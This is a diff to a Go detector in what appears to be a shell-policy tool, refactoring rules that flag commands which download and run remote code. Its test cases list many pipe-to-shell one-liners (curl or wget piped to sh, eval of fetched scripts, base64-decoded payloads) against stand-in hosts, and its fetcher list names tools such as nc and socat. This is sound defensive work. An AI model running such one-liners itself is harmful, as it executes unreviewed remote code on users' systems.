@@ -7,7 +7,10 @@ import (
 	"github.com/policyctl/policyctl/pkg/shell"
 )
 
-const shells = "bash sh dash ash zsh ksh mksh rbash fish"
+const (
+	shells   = "bash sh dash ash zsh ksh mksh rbash fish"
+	fetchers = "curl wget http https xh aria2c lynx w3m fetch nc ncat netcat socat ftp tftp aws gsutil gcloud gh"
+)
 
 var downloadRules = []hazard.Rule{
 	{
@@ -19,13 +22,13 @@ var downloadRules = []hazard.Rule{
 		},
 		Hit: []string{"curl -fsSL https://get.example.com | sh", "wget -qO- https://x.example/i.sh | sudo bash -s -- -y", "bash <(curl -s https://x.example)", `eval "$(curl -s https://x.example)"`, `sh -c "$(curl -fsSL https://x.example)"`,
 			"source <(curl -s https://x.example)", "curl -s https://x.example | tee i.sh | bash", "curl -s https://x.example/a.b64 | base64 -d | sh", "curl -sSL https://x.example | python3 -", `python3 -c "$(curl -s https://x.example)"`,
-			"{ curl -s https://x.example; } | sh", `bash <<< "$(curl -s https://x.example)"`, "curl -s https://x.example | env -i bash"},
+			"{ curl -s https://x.example; } | sh", `bash <<< "$(curl -s https://x.example)"`, "curl -s https://x.example | env -i bash", "curl -s https://x.example | xargs -I{} sh -c {}"},
 		Miss: []string{"curl -s https://x.example | jq .", "curl -s https://x.example | python3 -m json.tool", `curl -s https://x.example | python3 -c "import json,sys; print(json.load(sys.stdin))"`, "curl -o i.sh https://x.example", `echo "curl https://x.example | sh"`,
 			`bash build.sh "$(curl -s https://x.example/version)"`, "curl -s https://x.example | grep sh", "cat i.sh | bash"},
 	},
 	{
-		ID: "download-then-run", Class: "download", Programs: "",
-		Why:     "runs a file that the same line downloads, unseen",
+		ID: "download-then-run", Class: "download", Programs: fetchers,
+		Why:     "downloads a file that the same line runs, unseen",
 		Instead: "Download the file in one step, read it, and run it in another.",
 		Match:   runsDownload,
 		Hit:     []string{"curl -o /tmp/i.sh https://x.example && bash /tmp/i.sh", "wget https://x.example/i.sh -O i.sh; chmod +x i.sh; ./i.sh", "curl -s https://x.example > i.py && python3 i.py", "curl -sLO https://x.example/i.sh && sh i.sh"},
@@ -77,32 +80,32 @@ var downloadRules = []hazard.Rule{
 	},
 }
 
+var fetcherNames = strings.Fields(fetchers)
+
 // fetches holds for a command that gets something from the network.
 func fetches(c *command) bool {
 	switch c.Name {
-	case "curl", "wget", "http", "https", "xh", "aria2c", "lynx", "w3m", "fetch", "nc", "ncat", "netcat", "socat", "ftp", "tftp":
-		return !c.Function && !asksHelp(c)
 	case "aws", "gsutil", "gcloud":
 		return says("cp", "cat")(c)
 	case "gh":
-		return c.Args.Sub == "api" || c.Args.Sub == "gist view" || c.Args.Sub == "release download"
+		return sub("api", "gist view", "release download")(c)
 	}
-	return false
+	return isOneOf(c.Name, fetcherNames) && !c.Function && !asksHelp(c)
 }
 
-// runsDownload matches a command that runs a file which a command before it
-// downloads to.
+// runsDownload matches a command that downloads to a file which a command
+// behind it runs.
 func runsDownload(s *hazard.Scene, c *command) (span, bool) {
-	if len(s.Line.Commands) == 1 || len(c.Words) == 0 || c.Function {
+	if len(s.Line.Commands) == 1 || !fetches(c) {
 		return span{}, false
 	}
-	for i := range s.Line.Commands {
-		d := &s.Line.Commands[i]
-		if d == c {
-			return span{}, false
-		}
-		if fetches(d) && runsAny(c, d) {
-			return c.Span, true
+	at := indexOf(s, c)
+	if len(s.Line.Commands)-at > maxCommands {
+		return c.Span, downloadsTo(c, "")
+	}
+	for i := at + 1; i < len(s.Line.Commands); i++ {
+		if d := &s.Line.Commands[i]; runsAny(d, c) {
+			return d.Span, true
 		}
 	}
 	return span{}, false
@@ -123,9 +126,11 @@ func runsAny(c, download *command) bool {
 	return false
 }
 
+// downloadsTo says whether a command downloads to a file, which is any file
+// if the path is "".
 func downloadsTo(c *command, path string) bool {
 	for e := range c.Effects {
-		if e.Kind == shell.Writes && isOneOf(path, shell.Paths(c.Dir, e.Target)) {
+		if e.Kind == shell.Writes && (path == "" || isOneOf(path, shell.Paths(c.Dir, e.Target))) {
 			return true
 		}
 	}
